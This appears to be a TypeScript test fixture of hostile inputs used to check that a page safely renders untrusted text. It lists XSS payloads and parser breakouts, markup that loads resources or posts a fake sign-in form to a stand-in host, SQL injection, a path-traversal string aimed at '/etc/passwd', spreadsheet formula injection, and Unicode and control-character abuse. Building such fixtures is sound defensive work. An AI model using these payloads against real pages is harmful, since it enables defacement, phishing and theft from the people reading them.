/**
 * What an agent, a customer or a runner may send to take over, deface or break the page of somebody who reads it. Whatever runs calls
 * `owned`, whatever is fetched is fetched from a host that does not exist.
 */

const HOST = 'https://canary.invalid';
const RUN = "owned('script')";
const KILO = 1024;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src="${HOST}/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<a href="javascript:${RUN}">Open the report</a>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
];

const BREAKOUTS = [
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' x='`,
  '`-owned("template")-`',
  `</title></textarea></pre></code></dd></li></main><h1 onclick=${RUN}>Signed out</h1>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  '<!-- never closed',
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  '<plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=owned(1)>">',
  '<template><li class="result" data-key="x">',
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}} #{${RUN}} <%= ${RUN} %> {% ${RUN} %}`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62; &amp;lt; &NotAnEntity; &#0; &#x110000;`,
];

const CALLS_OUT = [
  `<img src="${HOST}/pixel.png">`,
  `![status](${HOST}/markdown.png) [open](javascript:${RUN})`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<style>@import url(${HOST}/x.css); body { display: none }</style>`,
  `<p style="position:fixed;inset:0;background:url(${HOST}/bg.png)">You are signed out</p>`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<base href="${HOST}/">`,
  `<form action="${HOST}"><input name="csrf"><button>Sign in again</button></form>`,
  `<video poster="${HOST}/v.png" src="${HOST}/v.mp4" autoplay></video>`,
  `<audio src="//canary.invalid/a.mp3" autoplay>`,
];

const UNREADABLE = [
  'Refunded \u202e00.001 $\u202c in full',
  '\u2066isolate\u2067never closed \u202a\u202b\u202d',
  'pa\u200bss\u200ced\u200d\u2060\ufeff\u00ad',
  `Z${'\u0300\u0301\u0317\u0489\u035c'.repeat(40)}algo${'\u0336\u0334\u20dd'.repeat(60)}`,
  'W'.repeat(5 * KILO),
  `${'a-very-long-path/'.repeat(80)}?q=${'x'.repeat(900)}`,
  '\u0000\u0001\u0007\u0008\u000b\u000c\u001b\u007f\u0080\u009f',
  '\u001b[2J\u001b[31mFAILED\u001b[0m \u001b]8;;https://canary.invalid\u0007link\u001b]8;;\u0007',
  'high \ud800 low \udc00 swapped \udc00\ud800',
  '\ufffe\uffff\ufdd0 noncharacters',
  'one\u2028two\u2029three\u0085four\rfive\r\nsix\u000bseven',
  `${'👩‍👩‍👧‍👦'.repeat(60)}${'🏳️‍🌈🇪🇺👍🏽'.repeat(40)}`,
  'سلام <b>דגש</b> العربية 123 \u200fRTL\u200e mixed with English (parentheses) and numbers 45%',
  '𒈙﷽꧅𒐫⸻'.repeat(30),
  '\u3164\u115f\u2800\u00a0\u2003',
  `${'\t'.repeat(200)}${'\n'.repeat(300)}end`,
  String.fromCharCode(...Array.from({ length: 256 }, (_, byte) => byte)),
  "Robert'); DROP TABLE results;-- \\ %s %n %00 ../../etc/passwd",
  '=HYPERLINK("https://canary.invalid","open") +1+1 @SUM(A1)',
  '__proto__ constructor prototype toString hasOwnProperty',
];

/** Everything in one field; each is at most a few kilobytes. */
export const HOSTILE: readonly string[] = [...SCRIPTS, ...BREAKOUTS, ...CALLS_OUT, ...UNREADABLE];

/** Longer than any page may become: markup, and one word. */
export const HUGE: readonly string[] = [
  `<div><img src="${HOST}/huge.png" onerror=${RUN}>`.repeat(3000),
  'W'.repeat(200 * KILO),
];
